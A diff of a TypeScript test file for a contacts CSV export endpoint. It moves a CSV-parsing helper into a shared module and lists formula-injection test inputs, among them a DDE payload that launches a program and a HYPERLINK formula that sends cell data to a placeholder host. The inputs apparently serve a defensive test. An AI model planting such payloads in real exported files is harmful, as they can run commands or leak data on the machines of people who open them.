@@ -1,5 +1,6 @@
 import { beforeAll, describe, expect, test } from 'vitest'
 import { addressBook, numbersFrom } from '../../../tests/support/contacts.ts'
+import { cellsOf } from '../../../tests/support/csv-cells.ts'
 import { newVendor, startProduct, type TestProduct } from '../../../tests/support/product.ts'
 
 let product: TestProduct
@@ -11,17 +12,6 @@ const newMobile = numbersFrom(60_000_000)
 type Who = { token: string }
 const bulk = (contacts: object[], who: Who) => product.post('/contacts/bulk', contacts, { token: who.token })
 const exported = (who: Who, query = '') => product.get(`/contacts/export${query}`, { token: who.token })
-
-/** RFC 4180, read by other code than ours. */
-function cellsOf(csv: string): string[][] {
-  const records: string[][] = [[]]
-  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
-    records.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
-    if (end === '\r\n') records.push([])
-    if (end === '') break
-  }
-  return records.slice(0, -1)
-}
 
 const FORMULAS = [
   ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x?"&A1,"y")'],
